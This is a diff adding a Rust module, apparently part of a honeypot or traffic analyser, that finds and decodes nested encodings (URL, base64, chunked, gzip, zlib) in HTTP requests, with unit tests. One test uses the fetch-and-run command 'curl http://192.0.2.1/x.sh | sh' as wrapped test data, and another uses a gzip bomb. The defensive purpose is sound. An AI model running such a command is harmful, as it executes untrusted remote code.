@@ -1,0 +1,263 @@
+//! What is hidden in a request by an encoding: found, and undone.
+//!
+//! In: the parts of a request. Out: [`Decoded`] bytes, with where they were and how they were wrapped.
+//! Undoes URL encoding, base64, chunks, gzip and zlib, one inside the other up to [`MAX_DEPTH`]. Runs
+//! nothing, fetches nothing, and gives up on what grows beyond [`MAX_DECODED_BYTES`].
+
+use std::collections::HashSet;
+use std::io::Read;
+
+use base64::Engine;
+use base64::alphabet::{STANDARD, URL_SAFE};
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use flate2::read::{MultiGzDecoder, ZlibDecoder};
+use forever200_identify::http;
+use percent_encoding::percent_decode;
+
+use crate::printable;
+
+/// Wrappings undone one inside the other.
+const MAX_DEPTH: usize = 4;
+/// Most that a compressed part may become. What a request may hold decompresses to a thousand times that.
+const MAX_DECODED_BYTES: u64 = 256 * 1024;
+/// Most parts that one request is taken apart into.
+const MAX_PARTS: usize = 32;
+/// Shorter runs of base64 characters are words.
+const MIN_BASE64_CHARS: usize = 12;
+/// Longest name of a part, in characters.
+const MAX_NAME_CHARS: usize = 60;
+
+/// Bytes that were wrapped.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Decoded {
+    /// Where they were, and how they were wrapped, the outermost first: printable text.
+    pub what: String,
+    /// The bytes.
+    pub bytes: Vec<u8>,
+}
+
+/// Finds what is wrapped in a request; for other protocols than HTTP, in all of its bytes.
+#[must_use]
+pub fn decode(raw: &[u8], http: Option<&http::Request<'_>>) -> Vec<Decoded> {
+    let mut finder = Finder { found: Vec::new(), seen: HashSet::new() };
+    let Some(http) = http else {
+        finder.unwrap("bytes", raw, MAX_DEPTH);
+        return finder.found;
+    };
+    finder.unwrap("target", http.target, MAX_DEPTH);
+    for (name, value) in &http.headers {
+        finder.unwrap(&printable::line(name, MAX_NAME_CHARS), value, MAX_DEPTH);
+    }
+    finder.unwrap("body", http.body, MAX_DEPTH);
+    if is_chunked(http)
+        && let Some(body) = unchunk(http.body)
+    {
+        finder.keep("body, chunks joined".to_owned(), body, MAX_DEPTH);
+    }
+    finder.found
+}
+
+/// Returns the names and values of a query or form, decoded, in the order sent.
+#[must_use]
+pub fn parameters(encoded: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
+    let pairs = encoded.split(|&byte| byte == b'&').filter(|pair| !pair.is_empty());
+    let decode = |part: &[u8]| {
+        let spaced: Vec<u8> = part.iter().map(|&byte| if byte == b'+' { b' ' } else { byte }).collect();
+        percent_decode(&spaced).collect()
+    };
+    pairs
+        .map(|pair| match pair.iter().position(|&byte| byte == b'=') {
+            Some(equals) => (decode(&pair[..equals]), decode(&pair[equals + 1..])),
+            None => (decode(pair), Vec::new()),
+        })
+        .collect()
+}
+
+struct Finder {
+    found: Vec<Decoded>,
+    seen: HashSet<Vec<u8>>,
+}
+
+impl Finder {
+    /// Tries every wrapping on `bytes`.
+    fn unwrap(&mut self, what: &str, bytes: &[u8], depth: usize) {
+        if depth == 0 || bytes.is_empty() {
+            return;
+        }
+        if let Some(inner) = url_decoded(bytes) {
+            self.keep(format!("{what}, URL-decoded"), inner, depth);
+        } else if let Some((name, inner)) = decompressed(bytes) {
+            self.keep(format!("{what}, {name}"), inner, depth);
+        } else {
+            for run in base64_runs(bytes) {
+                if let Some(inner) = base64_decoded(run) {
+                    let run = printable::line(run, MAX_NAME_CHARS / 3);
+                    self.keep(format!("{what}, base64 {run}"), inner, depth);
+                }
+            }
+        }
+    }
+
+    fn keep(&mut self, what: String, bytes: Vec<u8>, depth: usize) {
+        if self.found.len() < MAX_PARTS && self.seen.insert(bytes.clone()) {
+            self.found.push(Decoded { what: what.clone(), bytes: bytes.clone() });
+            self.unwrap(&what, &bytes, depth - 1);
+        }
+    }
+}
+
+fn url_decoded(bytes: &[u8]) -> Option<Vec<u8>> {
+    let decoded: Vec<u8> = percent_decode(bytes).collect();
+    (decoded.len() < bytes.len()).then_some(decoded)
+}
+
+/// Undoes gzip (RFC 1952) and zlib (RFC 1950), as far as they go: a truncated stream is worth a look, too.
+fn decompressed(bytes: &[u8]) -> Option<(&'static str, Vec<u8>)> {
+    let (name, decoder): (_, Box<dyn Read + '_>) = match bytes {
+        [0x1f, 0x8b, 8, ..] => ("gunzipped", Box::new(MultiGzDecoder::new(bytes))),
+        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => ("inflated", Box::new(ZlibDecoder::new(bytes))),
+        _ => return None,
+    };
+    let mut inner = Vec::new();
+    // An error comes after what could be read.
+    let _ = decoder.take(MAX_DECODED_BYTES).read_to_end(&mut inner);
+    (!inner.is_empty()).then_some((name, inner))
+}
+
+/// Finds runs of characters that base64 may be made of. `-` and `_` are those of its URL form.
+fn base64_runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/-_=".contains(byte);
+    bytes.split(move |byte| !is_base64(byte)).map(|run| match run.iter().rposition(|&byte| byte != b'=') {
+        // `cmd=aGk=`: the first `=` is none of base64's.
+        Some(last) => match run[..last].iter().rposition(|&byte| byte == b'=') {
+            Some(equals) => &run[equals + 1..],
+            None => run,
+        },
+        None => &run[..0],
+    })
+}
+
+/// Decodes base64 where the result is text or compressed: most words are base64 by their letters.
+fn base64_decoded(run: &[u8]) -> Option<Vec<u8>> {
+    let config = GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true);
+    let alphabet = if run.iter().any(|byte| b"-_".contains(byte)) { &URL_SAFE } else { &STANDARD };
+    let decoded = GeneralPurpose::new(alphabet, config).decode(run).ok().filter(|_| run.len() >= MIN_BASE64_CHARS)?;
+    let is_text = std::str::from_utf8(&decoded)
+        .is_ok_and(|text| text.chars().all(|char| !char.is_control() || matches!(char, '\n' | '\r' | '\t')));
+    (is_text || decoded.starts_with(b"\x1f\x8b\x08") || decoded.starts_with(b"\xac\xed\0\x05")).then_some(decoded)
+}
+
+/// RFC 9112, 7.1.
+fn is_chunked(http: &http::Request<'_>) -> bool {
+    let chunked = |value: &[u8]| value.to_ascii_lowercase().ends_with(b"chunked");
+    http.headers.iter().any(|(name, value)| name.eq_ignore_ascii_case(b"transfer-encoding") && chunked(value))
+}
+
+/// Joins chunks, as far as they go; `None` when not one can be read.
+fn unchunk(mut body: &[u8]) -> Option<Vec<u8>> {
+    let mut joined = Vec::new();
+    while let Some(end) = body.iter().position(|&byte| byte == b'\n') {
+        let digits = body[..end].split(|&byte| byte == b';').next().unwrap_or_default().trim_ascii();
+        let size = std::str::from_utf8(digits).ok().and_then(|digits| usize::from_str_radix(digits, 16).ok());
+        let Some(size @ 1..) = size else { break };
+        let rest = &body[end + 1..];
+        joined.extend_from_slice(&rest[..size.min(rest.len())]);
+        let Some(more) = rest.get(size..) else { break };
+        body = more.strip_prefix(b"\r\n").or_else(|| more.strip_prefix(b"\n")).unwrap_or(more);
+    }
+    (!joined.is_empty()).then_some(joined)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
+    use flate2::Compression;
+    use flate2::write::GzEncoder;
+
+    use super::*;
+
+    fn found(raw: &[u8]) -> Vec<(String, String)> {
+        let http = http::parse(raw);
+        let parts = decode(raw, http.as_ref()).into_iter();
+        parts.map(|part| (part.what, part.bytes.escape_ascii().to_string())).collect()
+    }
+
+    fn gzip(bytes: &[u8]) -> Vec<u8> {
+        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+        encoder.write_all(bytes).unwrap();
+        encoder.finish().unwrap()
+    }
+
+    #[test]
+    fn each_wrapping_is_undone() {
+        let raw = b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
+        let expected = [
+            ("target, URL-decoded", "/?c=%65cho x"),
+            ("target, URL-decoded, URL-decoded", "/?c=echo x"),
+            ("Authorization, base64 YWRtaW46cGFzc3dvcmQ=", "admin:password"),
+        ];
+        assert_eq!(found(raw), expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned())));
+    }
+
+    #[test]
+    fn one_inside_the_other_is_found() {
+        let inner = BASE64_URL_SAFE_NO_PAD.encode(gzip(b"curl http://192.0.2.1/x.sh | sh"));
+        let raw = format!("POST / HTTP/1.1\r\n\r\n{{\"cmd\":\"{}\"}}", inner.replace('-', "%2d"));
+        let found = found(raw.as_bytes());
+        let (what, bytes) = found.last().unwrap();
+        assert_eq!(bytes, "curl http://192.0.2.1/x.sh | sh");
+        assert!(what.starts_with("body, ") && what.ends_with(", gunzipped"), "{what}");
+    }
+
+    #[test]
+    fn chunks_are_joined_as_far_as_they_go() {
+        let head = "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n";
+        for (body, joined) in [
+            ("5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n", "hello world"),
+            ("5\nhello\n6\n wo", "hello wo"),
+            ("ffffffffffffffff\r\nhello", "hello"),
+        ] {
+            let found = found(format!("{head}{body}").as_bytes());
+            assert_eq!(found, [("body, chunks joined".to_owned(), joined.to_owned())]);
+        }
+        for body in ["", "0\r\n\r\n", "-1\r\nx", "zz\r\nhello", "5"] {
+            assert_eq!(found(format!("{head}{body}").as_bytes()), []);
+        }
+    }
+
+    #[test]
+    fn words_are_not_base64() {
+        for raw in [
+            &b"GET /administrator/components/index.php HTTP/1.1\r\nHost: example.com\r\nAccept: application/json\r\n\r\n"[..],
+            b"GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA HTTP/1.1\r\n\r\n",
+            b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; ExampleBot/2.1)\r\n\r\n=====================",
+            b"\x16\x03\x01",
+        ] {
+            assert_eq!(found(raw), []);
+        }
+    }
+
+    #[test]
+    fn what_explodes_is_cut_off() {
+        let bomb = gzip(&vec![b'a'; 50_000_000]);
+        let raw = [b"POST / HTTP/1.1\r\n\r\n", &bomb[..]].concat();
+        let sizes: Vec<_> = decode(&raw, http::parse(&raw).as_ref()).iter().map(|part| part.bytes.len()).collect();
+        assert_eq!(sizes, [MAX_DECODED_BYTES as usize]);
+        let many = BASE64_STANDARD.encode("many words here") + " ";
+        let many: String = (0..1000).map(|number| many.replacen('b', &format!("b{number:04}"), 1)).collect();
+        assert!(found(format!("POST / HTTP/1.1\r\n\r\n{many}").as_bytes()).len() <= MAX_PARTS);
+    }
+
+    #[test]
+    fn parameters_keep_their_order_and_bytes() {
+        let expected: [(&[u8], &[u8]); 5] =
+            [(b"b", b"1 2"), (b"a", b"\xff="), (b"b", b""), (b"", b"x"), (b"%zz", b"%")];
+        let found = parameters(b"b=1+2&a=%ff=&&b&=x&%zz=%");
+        let found: Vec<_> = found.iter().map(|(name, value)| (&name[..], &value[..])).collect();
+        assert_eq!(found, expected);
+    }
+}
